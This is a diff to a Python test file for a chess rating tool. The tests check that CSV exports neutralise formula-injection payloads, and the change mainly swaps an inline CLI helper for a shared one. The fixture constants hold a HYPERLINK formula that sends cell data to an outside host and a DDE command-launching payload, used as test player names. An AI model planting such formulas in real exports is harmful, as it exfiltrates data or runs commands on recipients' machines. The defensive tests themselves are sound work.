@@ -10,13 +10,12 @@ import itertools
 from pathlib import Path
 
 import pytest
-from click.testing import CliRunner
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from ratings.cli import cli
 from ratings.io.csv_out import is_formula, neutralise, restore, write_csv
 from tests.conftest import init_database, table_rows
+from tests.support import ok
 
 HYPERLINK = '=HYPERLINK("http://x/?d="&A1,"click")'
 PLUS = "+cmd|' /C calc'!A0"
@@ -74,24 +73,18 @@ def test_write_csv_neutralises_every_cell_header_included() -> None:
 # --- every command that writes CSV ------------------------------------------------------
 
 
-def run(db: Path, *args: str) -> str:
-    result = CliRunner().invoke(cli, ["--db", str(db), *args], catch_exceptions=False)
-    assert result.exit_code == 0, result.output
-    return result.stdout
-
-
 @pytest.fixture(scope="module")
 def club(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """The four payloads as player names (three with ratings), and games between them."""
     db = tmp_path_factory.mktemp("csv_injection") / "club.db"
-    run(db, "init")
-    run(db, "player", "add", "--rating", "1800", "--", HYPERLINK)
-    run(db, "player", "add", "--rating", "1700", "--", PLUS)
-    run(db, "player", "add", "--", AT)
-    run(db, "player", "add", "--rating", "1600", "--", MINUS)
-    run(db, "game", "add", "1", "2", "0-1", "--date", "2026-01-10")
-    run(db, "game", "add", "4", "1", "1-0", "--date", "2026-01-11")
-    run(db, "game", "add", "3", "4", "1-0", "--date", "2026-01-12")
+    ok(db, "init")
+    ok(db, "player", "add", "--rating", "1800", "--", HYPERLINK)
+    ok(db, "player", "add", "--rating", "1700", "--", PLUS)
+    ok(db, "player", "add", "--", AT)
+    ok(db, "player", "add", "--rating", "1600", "--", MINUS)
+    ok(db, "game", "add", "1", "2", "0-1", "--date", "2026-01-10")
+    ok(db, "game", "add", "4", "1", "1-0", "--date", "2026-01-11")
+    ok(db, "game", "add", "3", "4", "1-0", "--date", "2026-01-12")
     return db
 
 
@@ -109,12 +102,12 @@ def test_rating_lists(club: Path, tmp_path: Path, command: str) -> None:
     db = tmp_path / "club.db"
     db.write_bytes(club.read_bytes())
     if command == "list":
-        run(db, "rate")
-    rows = _cells(run(db, command, "--all", "--format", "csv"))
+        ok(db, "rate")
+    rows = _cells(ok(db, command, "--all", "--format", "csv"))
     assert rows[0][:7] == ["name", "fide_id", "federation", "title", "birth_year", "rating",
                            "change"]  # fmt: skip
     _check_names_neutralised(rows, 0)
-    # an unrated player's change is blank (issue 11, item 13)
+    # an unrated player's change is blank
     changes = sorted(int(row[6]) for row in rows[1:] if row[6])
     assert changes[0] < 0  # a negative change is written as a plain number, unquoted
     assert [row[6] for row in rows[1:] if row[6].startswith("-")] == [
@@ -125,18 +118,18 @@ def test_rating_lists(club: Path, tmp_path: Path, command: str) -> None:
 def test_history(club: Path, tmp_path: Path) -> None:
     db = tmp_path / "club.db"
     db.write_bytes(club.read_bytes())
-    run(db, "rate")
-    rows = _cells(run(db, "history", "1", "--format", "csv"))
+    ok(db, "rate")
+    rows = _cells(ok(db, "history", "1", "--format", "csv"))
     assert rows == [
         ["period", "rating_before", "rating", "change", "k_used", "period_games", "total_games",
          "score", "list_status"],
-        # K 20 and no total: the prior game count is unknown (issue 12, item 1)
+        # K 20 and no total: the prior game count is unknown
         ["2026-01", "1800", "1772", "-28", "20", "2", "", "0.0", "listed"],
     ]  # fmt: skip
 
 
 def test_sql(club: Path) -> None:
-    text = run(club, "sql", "SELECT name, -12 AS n, -0.25 AS x, '-2+3' AS s, 1 AS \"=h\" "
+    text = ok(club, "sql", "SELECT name, -12 AS n, -0.25 AS x, '-2+3' AS s, 1 AS \"=h\" "
                "FROM players ORDER BY id", "--format", "csv")  # fmt: skip
     assert _cells(text) == [
         ["name", "n", "x", "s", "'=h"],
@@ -213,31 +206,23 @@ def test_a_register_with_formula_like_names_goes_back_unchanged(tmp_path: Path) 
     ``'=Smith, John``, ``''=Double, Q`` and ``Semi;'=x, Z``, 3 were renamed
     (``'=Smith, John -> =Smith, John``)."""
     db = init_database(tmp_path / "reg.db")
-    runner = CliRunner()
-
-    def ok(*args: str) -> str:
-        result = runner.invoke(cli, ["--db", db, *args])
-        assert result.exit_code == 0, result.output
-        return result.stdout
-
     for name in NAMES:
-        ok("player", "add", "--rating", "1800", "--games", "30", "--", name)
-    before = ok("player", "list", "--format", "csv")
+        ok(db, "player", "add", "--rating", "1800", "--games", "30", "--", name)
+    before = ok(db, "player", "list", "--format", "csv")
     assert "'=Jones, John" in before
     assert "''=Smith, John" in before
     sheet = tmp_path / "register.csv"
     sheet.write_text(before, encoding="utf-8")
-    assert ok("import", "players", "--update", str(sheet)).splitlines()[-1] == (
+    assert ok(db, "import", "players", "--update", str(sheet)).splitlines()[-1] == (
         f"Imported 0 new players, updated 0 ({len(NAMES)} unchanged) from {sheet}"
     )
-    assert ok("player", "list", "--format", "csv") == before
+    assert ok(db, "player", "list", "--format", "csv") == before
     # into another database (the ids dropped): the names as registered, not with the quote
     rows = list(csv.reader(io.StringIO(before)))
     moved = tmp_path / "moved.csv"
     with moved.open("w", newline="", encoding="utf-8") as out:
         csv.writer(out).writerows(row[1:] for row in rows)
     other = init_database(tmp_path / "other.db")
-    result = runner.invoke(cli, ["--db", other, "import", "players", str(moved)])
-    assert result.exit_code == 0, result.output
+    ok(other, "import", "players", str(moved))
     names = {n for (n,) in table_rows(other, "SELECT name FROM players")}
     assert names == set(NAMES)
